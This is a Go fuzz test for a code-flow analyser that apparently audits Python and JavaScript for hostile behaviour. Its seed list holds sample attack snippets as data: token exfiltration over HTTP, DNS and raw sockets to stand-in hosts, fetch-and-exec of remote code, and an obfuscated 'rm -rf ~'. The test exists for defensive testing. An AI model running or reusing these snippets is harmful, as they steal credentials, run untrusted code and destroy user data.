//go:build cgo

package codeflow

import (
	"os"
	"path/filepath"
	"testing"
	"time"
)

// FuzzAnalyze reads arbitrary text as Python and as JavaScript, alone and
// as two units of one skill: it must never panic, loop or exceed its bounds.
func FuzzAnalyze(f *testing.F) {
	for _, c := range seedPrograms {
		f.Add(c, c)
	}
	for _, glob := range []string{"../testdata/*/*/*.py", "../testdata/*/*/*/*.py", "../testdata/*/*/*.js", "../testdata/*/*/*/*.js"} {
		files, _ := filepath.Glob(glob)
		for _, p := range files {
			if b, err := os.ReadFile(p); err == nil && len(b) < 64<<10 {
				f.Add(string(b), "")
			}
		}
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		for _, lang := range []Lang{Python, JavaScript} {
			start := time.Now()
			flows, err := Analyze([]Unit{{Lang: lang, Code: []byte(a)}, {Lang: lang, Code: []byte(b)}})
			if el := time.Since(start); el > 3*time.Second && len(a)+len(b) < 64<<10 {
				t.Fatalf("%d bytes took %s", len(a)+len(b), el) // hostile code must not stall the audit
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(flows) > maxFlows {
				t.Fatalf("%d flows, more than the bound %d", len(flows), maxFlows)
			}
			for _, fl := range flows {
				if fl.Unit < 0 || fl.Unit > 1 || fl.Start < 0 || fl.Start > fl.End || fl.End > len([]byte(a))+len([]byte(b)) {
					t.Fatalf("flow out of its unit: %+v", fl)
				}
			}
		}
	})
}

// seedPrograms are small programs of every construct the analysis reads.
var seedPrograms = []string{
	"import os, requests\nk = os.environ['GITHUB_TOKEN']\nrequests.post('https://c.example.net', data=k)\n",
	"exec(requests.get('https://x.example/p').text)\n",
	"import os\nos.system(''.join(map(chr, [114, 109])) + ' -rf ~')\n",
	"class C:\n    t = os.getenv('X_TOKEN')\n    def go(self):\n        socket.gethostbyname(f'{self.t}.d.example')\n",
	"def f(*a, **k):\n    return f(*a, **k)\nf(f, f)\n",
	"x = [c for c in range(10) if c]\ny = {k: v for k, v in os.environ.items()}\n",
	"const { exec } = require('child_process');\nfetch(u).then(r => r.text()).then(t => exec(t));\n",
	"const s = require('net').connect({host: '203.0.113.1'}, () => s.write(JSON.stringify(process.env)));\n",
	"new Promise((res, rej) => res(process.env.NPM_TOKEN)).then(v => require('dns').lookup(v + '.x.example'));\n",
	"eval(atob('YWxlcnQoMSk='));\nString.fromCharCode(114, 109);\n'~ fr- mr'.split('').reverse().join('');\n",
	"function a(){ return a() }\nconst b = () => b();\na(); b();\n",
	"`${`${`${process.env.A_TOKEN}`}`}`",
	"f'{f\"{os.environ}\"}'",
}
